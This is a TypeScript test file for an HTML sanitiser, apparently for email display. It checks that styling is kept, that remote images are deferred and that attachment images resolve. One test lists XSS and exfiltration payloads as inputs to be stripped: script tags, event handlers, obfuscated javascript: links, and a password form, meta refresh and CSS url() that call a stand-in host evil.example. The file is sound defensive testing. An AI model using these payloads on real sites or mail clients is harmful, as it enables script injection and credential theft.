import assert from "node:assert/strict";
import { test } from "node:test";
import { hasRemoteImages, sanitiseHtml } from "./sanitise-html.ts";

test("what a person wrote keeps its looks", () => {
  const html = '<p style="color: #c00; margin: 0 auto">Not <b>here</b></p><table><tr><td colspan="2">17</td></tr></table>';
  assert.equal(
    sanitiseHtml(html),
    '<p style="color:#c00;margin:0 auto">Not <b>here</b></p><table><tr><td colspan="2">17</td></tr></table>',
  );
});

test("nothing that runs, sends or loads is left", () => {
  const tricks = [
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><style>x</style></svg>",
    "<math><mi href=javascript:alert(1)>",
    "<style>body{background:url(http://evil.example/a)}</style>",
    "<form action=http://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img srcset='http://evil.example/a 2x' onerror=alert(1)>",
    "<table background=http://evil.example/a></table>",
    "<p id=x name=y class=z style='position:fixed;background:url(http://evil.example)' onclick=alert(1)></p>",
    "<a href='jav&#x09;ascript:alert(1)'></a><a href='/api/v1/sign-out'></a>",
  ];
  for (const trick of tricks) {
    assert.doesNotMatch(sanitiseHtml(trick), /script|alert|evil|onload|position|class=|id=|refresh|form|api/i, trick);
  }
});

test("remote images wait for a click, the message's own point to its attachments", () => {
  const safe = sanitiseHtml('<img src="http://shop.example/logo.png" alt="Logo"><img src="cid:door%40kunde"><img src="cid:none">', (id) =>
    id === "door@kunde" ? "/files/abc" : null,
  );
  assert.equal(safe, '<img alt="Logo" data-remote-src="http://shop.example/logo.png" /><img src="/files/abc" /><img />');
  assert.equal(hasRemoteImages(safe), true);
  assert.equal(hasRemoteImages(sanitiseHtml("<p>plain</p>")), false);
});
